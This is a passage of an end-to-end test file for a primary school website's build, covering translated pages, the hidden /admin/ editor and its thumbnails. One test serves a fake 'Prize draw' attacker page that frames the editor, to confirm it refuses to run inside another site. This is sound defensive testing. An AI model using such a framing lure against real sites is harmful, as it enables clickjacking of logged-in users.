    const { lang, original } = TRANSLATION;
    const translation = readFileSync(join(out, `${lang}/policies/${original}/index.html`), 'utf8');
    const html = /<html[^>]*>/.exec(translation)![0];
    expect(html).toContain(` lang="${lang}"`);
    expect(html).toContain(' dir="rtl"');
    const text = textOf(mainOf(translation));
    expect(text).toContain(TRANSLATION.title);
    expect(text).toContain(TRANSLATION.body);

    const alternates = (source: string) =>
      Object.fromEntries([...source.matchAll(/<link rel="alternate" hreflang="([^"]+)" href="([^"]+)"/g)].map((m) => [m[1], m[2]]));
    const english = readFileSync(join(out, `policies/${original}/index.html`), 'utf8');
    expect(alternates(english)).toMatchObject({
      en: `https://www.hazelbrook.sch.uk/policies/${original}/`,
      [lang]: `https://www.hazelbrook.sch.uk/${lang}/policies/${original}/`,
    });
    expect(alternates(translation)).toMatchObject({
      en: `https://www.hazelbrook.sch.uk/policies/${original}/`,
      [lang]: `https://www.hazelbrook.sch.uk/${lang}/policies/${original}/`,
    });
    // The language's home page lists it with the other translations.
    expect(readFileSync(join(out, `${lang}/index.html`), 'utf8')).toContain(`href="/${lang}/policies/${original}/"`);
  });

  it('builds /admin/ for GitLab, kept out of search engines, and its bundle runs under its own policy', async () => {
    const html = readFileSync(join(out, 'admin/index.html'), 'utf8');
    expect(html).toContain('<meta name="robots" content="noindex, nofollow">');
    expect(readFileSync(join(out, 'sitemap-0.xml'), 'utf8')).not.toContain('/admin/');
    const config = readFileSync(join(out, 'admin/config.yml'), 'utf8');
    expect(config).toContain('name: gitlab');
    expect(config).toContain('auth_type: pkce');
    expect(config).not.toContain('local_backend');
    // The editor's small copy of the new photo, for its thumbnails.
    const thumbnail = readFileSync(join(out, `admin/uploads/classes/oak/${today}/2026-11-13-science-week.jpg.webp`));
    expect(thumbnail.subarray(8, 12).toString()).toBe('WEBP');
    expect(thumbnail.length).toBeLessThan(60_000);

    const server = await serve(out);
    const p = await context.newPage();
    const errors: string[] = [];
    p.on('pageerror', (e) => errors.push(e.message));
    try {
      await p.goto(`${server.url}/admin/`);
      await p.getByRole('button', { name: 'Login with GitLab' }).waitFor({ timeout: 60_000 });
      expect(await p.title()).toBe('Editor – Hazelbrook Primary School');
      const seen = (await p.evaluate(() => (window as any).__violations ?? [])) as string[];
      expect(seen).toEqual([]);
      expect(errors).toEqual([]);
    } finally {
      await p.close();
      await server.close();
    }
  });

  it('does not start inside another site’s frame, where the host ignores _headers (no frame-ancestors)', async () => {
    // serve() sends no headers of its own, as GitHub Pages or GitLab Pages would not send the site's _headers.
    const server = await serve(out);
    const attacker = await attackerSite(`<!doctype html><title>Prize draw</title><iframe src="${server.url}/admin/" width="1100" height="800"></iframe>`);
    const p = await context.newPage();
    try {
      await p.goto(attacker.url);
      const framed = p.frameLocator('iframe');
      await framed.getByText('The editor does not open inside another website’s page').waitFor({ timeout: 60_000 });
      expect(await framed.getByRole('link', { name: 'Open the editor on its own' }).getAttribute('href')).toBe('/admin/');
      expect(await framed.getByRole('button', { name: /Login/ }).count()).toBe(0);
      expect(await framed.locator('#nc-root').textContent()).not.toContain('Loading the editor');
    } finally {
      await p.close();
      await attacker.close();
      await server.close();
    }
  });
});

/**
 * Another site's page, on this computer: Chromium asks before a page from the internet reaches a
 * local address (Local Network Access) and other browsers do not, so the attacker's page is put
 * on another port of this computer, which Chromium lets through: what stops it must be the site.
 */
async function attackerSite(html: string): Promise<{ url: string; close: () => Promise<void> }> {
  const server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html));
  const port = await new Promise<number>((done) => server.listen(0, '127.0.0.1', () => done((server.address() as { port: number }).port)));
  // localhost, not 127.0.0.1: another origin than every page of the site under test whatever its port.
  // The browser keeps idle connections open: closed here, or close() would wait for them.
  return { url: `http://localhost:${port}/`, close: () => new Promise((done) => server.close(() => done()).closeAllConnections()) };
}

/** Width and height from a JPEG's start-of-frame marker. */
function jpegSize(bytes: Buffer): { width: number; height: number } {
  let i = 2;
  while (i < bytes.length) {
    const marker = bytes[i + 1]!;
    const length = bytes.readUInt16BE(i + 2);
    if (marker >= 0xc0 && marker <= 0xc2) return { height: bytes.readUInt16BE(i + 5), width: bytes.readUInt16BE(i + 7) };
    i += 2 + length;
  }
  throw new Error('Not a JPEG');
}
